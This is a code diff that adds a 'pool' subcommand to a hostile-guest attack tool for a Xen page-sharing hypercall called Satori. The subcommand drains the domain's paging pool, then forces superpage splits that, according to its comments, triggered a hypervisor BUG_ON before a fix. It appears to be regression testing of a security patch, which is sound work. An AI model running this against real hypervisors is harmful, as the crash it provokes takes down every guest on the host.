@@ -57,6 +57,13 @@
  *	page cache) registered under their true hashes: how many merge says
  *	whether other domains of this guest's trust group hold FILE, and
  *	must say nothing about other groups.
+ *   pool [PAIRS]
+ *	Empties the domain's paging pool (one page populated in each of
+ *	many new 2 MiB regions, each needing a new p2m table), then
+ *	registers PAIRS (default 256) pairs of equal pages: nominating a
+ *	gfn inside a superpage must split it, and the split finds no pool
+ *	page (a BUG_ON in nominate_page() before hv-hooks patch 0005).
+ *	Afterwards the domain's p2m can no longer grow: run it last.
  *   selfmerge [PAIRS]
  *	2 * PAIRS (default 1024) pages merged pairwise, then the domain tries
  *	to grow (XENMEM_populate_physmap above its RAM, one page at a time
@@ -1477,6 +1484,80 @@ static int cmd_selfmerge(size_t pairs)
 	return 0;
 }
 
+/* ---- pool ---- */
+
+/*
+ * Populates one page at the start of each 2 MiB region from 4 GiB up, so
+ * that every one needs a new p2m table from the domain's paging pool,
+ * until Xen refuses (the pool is empty, or max_pages is reached) or cap.
+ */
+static size_t spread(uint64_t *gfns, size_t cap, long *rc)
+{
+	struct xen_memory_reservation r = {
+		.nr_extents = 1,
+		.domid = SATORI_DOMID_SELF,
+	};
+	size_t n = 0;
+
+	*rc = 1;
+	while (n < cap) {
+		gfns[n] = 0x100000 + (uint64_t)n * 512;
+		r.extent_start = P(&gfns[n]);
+		*rc = memory_op(XENMEM_populate_physmap, P(&r));
+		if (*rc != 1)
+			break;
+		n++;
+	}
+	return n;
+}
+
+static int cmd_pool(size_t pairs)
+{
+	struct satori_domain_stats before, after;
+	uint64_t map[SATORI_BATCH_MAX / 64], *gfns;
+	size_t n = 2 * pairs, i, cap = 65536, populated, back;
+	struct satori_page *pages;
+	uint32_t shared, merged = 0;
+	long stop_rc;
+	uint8_t *a;
+
+	print_start("pool");
+	pages = calloc(n, sizeof(*pages));
+	gfns = calloc(cap, sizeof(*gfns));
+	a = locked_pages(n, false);
+	if (!pages || !gfns)
+		fail("out of memory");
+	for (i = 0; i < n; i++) {
+		if (i & 1)
+			memcpy(a + i * PAGE, a + (i - 1) * PAGE, PAGE);
+		else
+			fill_random(a + i * PAGE, PAGE);
+		pages[i] = (struct satori_page){ gfn_of(a + i * PAGE),
+						 key_of(a + i * PAGE) };
+	}
+	populated = spread(gfns, cap, &stop_rc);
+	self_stats(&before);
+	/* Nominating a gfn inside a superpage must split it: no pool left. */
+	for (i = 0; i < n; i += SATORI_BATCH_MAX) {
+		self_batch(SATORI_OP_register, pages + i,
+			   n - i < SATORI_BATCH_MAX ? n - i : SATORI_BATCH_MAX,
+			   map, NULL, &shared);
+		merged += shared;
+	}
+	self_stats(&after);
+	back = shrink(gfns, populated);
+	release_all(pages, n);
+	free(gfns);
+	free(pages);
+
+	printf("SATORI-ATTACK pool pairs=%zu populated=%zu populate_rc=%ld "
+	       "merged=%u skipped=%" PRIu64 " returned=%zu",
+	       pairs, populated, stop_rc, merged,
+	       after.skipped - before.skipped, back);
+	print_tail(cnt);
+	return 0;
+}
+
 /* ---- main ---- */
 
 static void __attribute__((noreturn)) usage(void)
@@ -1489,6 +1570,7 @@ static void __attribute__((noreturn)) usage(void)
 		"       satori_attack liar FILE [HOLD_SECONDS]\n"
 		"       satori_attack oracle FILE\n"
 		"       satori_attack selfmerge [PAIRS]\n"
+		"       satori_attack pool [PAIRS]\n"
 		"A hostile guest's attacks on the Satori hypercall; run as root\n"
 		"in a PVH guest booted with xen_privcmd.unrestricted=1.\n");
 	exit(1);
@@ -1562,6 +1644,14 @@ int main(int argc, char **argv)
 			usage();
 		open_devices();
 		return cmd_selfmerge(pairs);
+	}
+	if (!strcmp(sub, "pool") && argc <= 3) {
+		uint64_t pairs = number(argc, argv, 2, 256);
+
+		if (!pairs || pairs > 4096)
+			usage();
+		open_devices();
+		return cmd_pool(pairs);
 	}
 	usage();
 }
